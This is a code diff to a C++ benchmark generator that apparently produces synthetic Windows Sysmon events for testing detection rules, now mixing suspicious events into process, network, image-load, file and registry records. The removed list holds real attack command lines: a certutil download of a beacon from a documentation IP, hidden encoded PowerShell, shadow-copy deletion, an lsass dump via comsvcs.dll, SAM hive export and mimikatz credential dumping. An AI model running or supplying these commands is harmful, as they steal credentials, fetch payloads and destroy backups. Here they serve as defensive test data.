@@ -5,11 +5,14 @@
 
 #include <cmath>
 
+#include "bench/suspicious.h"
+
 namespace postern::bench {
 namespace {
 
 constexpr uint64_t kStart = 133'590'240'000'000'000;  // 2024-05-01 08:00
-constexpr uint64_t kSuspiciousEach = 2000;
+/// A number below 100 of each kind of event: see next().
+constexpr uint64_t kFirstOfKind[] = {0, 35, 55, 75, 88};
 constexpr size_t kPrograms = 220;
 constexpr size_t kLibraries = 600;
 
@@ -97,13 +100,6 @@ constexpr std::string_view kRoots[] = {
     "HKLM\\System\\CurrentControlSet\\Services\\",
     "HKU\\S-1-5-21-1004336348-1177238915-682003330-1013\\Software\\",
     "HKLM\\SOFTWARE\\Policies\\Microsoft\\", "HKLM\\SOFTWARE\\WOW6432Node\\Example\\"};
-constexpr std::string_view kSuspicious[] = {
-    "certutil.exe -urlcache -split -f http://198.51.100.7/beacon.bin C:\\Users\\Public\\b.exe",
-    "powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAu",
-    "vssadmin.exe delete shadows /all /quiet",
-    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
-    "reg.exe save HKLM\\SAM C:\\Temp\\sam.save",
-    "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit"};
 
 }  // namespace
 
@@ -161,19 +157,21 @@ FleetEvents::Program FleetEvents::make_program() {
     for (const std::string_view a : known.arguments)
       p.arguments.emplace_back(a);
   } else {
-    const std::string name = word() + word();
+    // Words without repetition are longer, so there are fewer: events of both kinds are of one
+    // size.
+    const std::string name = repeats_ ? word() + word() : word();
     p.original = name + ".exe";
-    p.path = std::string(random_.pick(kFolders)) + word() + " " + word() + "\\" + p.original;
-    p.parent =
-        repeats_ ? std::string(kExplorer) : "C:\\Program Files\\" + word() + "\\" + word() + ".exe";
-    p.description = word() + " for " + name;
-    p.company = word() + " Corporation";
+    const std::string folder = repeats_ ? word() + " " + word() : word();
+    p.path = std::string(random_.pick(kFolders)) + folder + "\\" + p.original;
+    p.parent = repeats_ ? std::string(kExplorer) : "C:\\Windows\\" + word() + ".exe";
+    p.description = repeats_ ? word() + " for " + name : word();
+    p.company = word() + (repeats_ ? " Corporation" : " Ltd");
     const size_t n = 1 + random_.below(12);
     for (size_t i = 0; i < n; ++i)
       p.arguments.push_back(std::string(random_.pick(kArguments)) + word() + word());
   }
   p.parent_arguments = p.parent == kSvchost ? " -k DcomLaunch -p" : "";
-  if (!repeats_) p.parent_arguments = " --session=" + random_.hex(6) + " --from=" + word();
+  if (!repeats_) p.parent_arguments = " --session=" + random_.hex(6);
   p.hashes = hashes();
   return p;
 }
@@ -187,8 +185,7 @@ const FleetEvents::Program& FleetEvents::program() {
 std::string FleetEvents::command_of(const Program& p) {
   std::string c = "\"" + p.path + "\"" + p.arguments[random_.below(p.arguments.size())];
   // What Windows starts has few command lines; others pass a number now and then.
-  if (!repeats_ || (p.arguments.size() > 3 && random_.below(3) == 0))
-    c += " --id=" + random_.hex(12);
+  if (repeats_ && p.arguments.size() > 3 && random_.below(3) == 0) c += " --id=" + random_.hex(12);
   return c;
 }
 
@@ -247,11 +244,10 @@ void FleetEvents::add_head() {
 void FleetEvents::process_creation() {
   category_ = "process_creation";
   add_head();
-  const bool suspicious = event_.record_id % kSuspiciousEach == 0;
   const Program p = program();
   std::string image = p.path;
   std::string command;
-  if (suspicious) {
+  if (suspicious_) {
     command = random_.pick(kSuspicious);
     image = "C:\\Windows\\System32\\" + command.substr(0, command.find(' '));
   } else {
@@ -260,7 +256,7 @@ void FleetEvents::process_creation() {
   add("Image", image);
   add("Description", p.description);
   add("Company", p.company);
-  add("OriginalFileName", suspicious ? image.substr(20) : p.original);
+  add("OriginalFileName", suspicious_ ? image.substr(20) : p.original);
   add("CommandLine", command);
   add("CurrentDirectory", image.substr(0, image.rfind('\\') + 1));
   add("User", user());
@@ -273,18 +269,20 @@ void FleetEvents::process_creation() {
 void FleetEvents::network_connection() {
   category_ = "network_connection";
   add_head();
-  add("Image", program().path);
+  const Values odd = random_.pick(kSuspiciousConnections);
+  add("Image", suspicious_ ? std::string(odd[0]) : program().path);
   add("User", user());
   add("Protocol", random_.below(4) == 0 ? "udp" : "tcp");
-  add("Initiated", random_.below(4) == 0 ? "false" : "true");
+  add("Initiated", !suspicious_ && random_.below(4) == 0 ? "false" : "true");
   add("SourceIp", "10." + std::to_string(random_.below(repeats_ ? 2 : 256)) + "." +
                       std::to_string(random_.below(repeats_ ? 8 : 256)) + "." +
                       std::to_string(1 + random_.below(254)));
   add("SourceHostname", event_.computer);
   add_number("SourcePort", 49152 + random_.below(16000));
-  add("DestinationIp", address());
-  add("DestinationHostname", host_name());
-  add_number("DestinationPort", random_.below(3) > 0 ? 443 : 1024 + random_.below(40000));
+  add("DestinationIp", suspicious_ ? std::string(odd[1]) : address());
+  add("DestinationHostname", suspicious_ ? "" : host_name());
+  const uint64_t port = random_.below(3) > 0 ? 443 : 1024 + random_.below(40000);
+  add_number("DestinationPort", suspicious_ ? std::stoul(std::string(odd[2])) : port);
 }
 
 void FleetEvents::image_load() {
@@ -297,21 +295,23 @@ void FleetEvents::image_load() {
     library = make_program();
     library.path.replace(library.path.size() - 3, 3, "dll");
   }
-  add("Image", program().path);
-  add("ImageLoaded", library.path);
-  add("OriginalFileName", library.original);
+  const Values odd = random_.pick(kSuspiciousLibraries);
+  add("Image", suspicious_ ? std::string(odd[0]) : program().path);
+  add("ImageLoaded", suspicious_ ? odd[1] : library.path);
+  add("OriginalFileName", suspicious_ ? odd[2] : library.original);
   add("Hashes", library.hashes);
-  add("Signed", "true");
-  add("Signature", library.company);
-  add("SignatureStatus", "Valid");
+  add("Signed", suspicious_ ? "false" : "true");
+  add("Signature", suspicious_ ? "-" : library.company);
+  add("SignatureStatus", suspicious_ ? "Unavailable" : "Valid");
   add("User", user());
 }
 
 void FleetEvents::file_event() {
   category_ = "file_event";
   add_head();
-  add("Image", program().path);
-  add("TargetFilename", file_name());
+  const Values odd = random_.pick(kSuspiciousFiles);
+  add("Image", suspicious_ ? std::string(odd[0]) : program().path);
+  add("TargetFilename", suspicious_ ? std::string(odd[1]) : file_name());
   add("CreationUtcTime", utc_text(event_.filetime));
   add("User", user());
 }
@@ -320,10 +320,12 @@ void FleetEvents::registry_set() {
   category_ = "registry_set";
   add("EventType", "SetValue");
   add_head();
-  add("Image", program().path);
-  add("TargetObject", registry_key());
+  const Values odd = random_.pick(kSuspiciousValues);
+  add("Image", suspicious_ ? std::string(odd[0]) : program().path);
+  add("TargetObject", suspicious_ ? std::string(odd[1]) : registry_key());
   const bool number = random_.below(2) == 0;
-  add("Details", number ? "DWORD (0x" + random_.hex(8) + ")" : command_of(program()));
+  const std::string details = number ? "DWORD (0x" + random_.hex(8) + ")" : command_of(program());
+  add("Details", suspicious_ ? odd[2] : details);
   add("User", user());
 }
 
@@ -334,7 +336,8 @@ const SysmonEvent& FleetEvents::next() {
   event_.computer = pooled(hosts_, 50, [&] { return word() + random_.hex(4) + ".example.com"; });
   event_.version = 5;
   uint64_t kind = random_.below(100);
-  if (event_.record_id % kSuspiciousEach == 0) kind = 0;
+  suspicious_ = event_.record_id % kSuspiciousEach == 0;
+  if (suspicious_) kind = kFirstOfKind[num_wanted_++ % std::size(kFirstOfKind)];
   if (kind < 35) {
     event_.id = 1;
     process_creation();
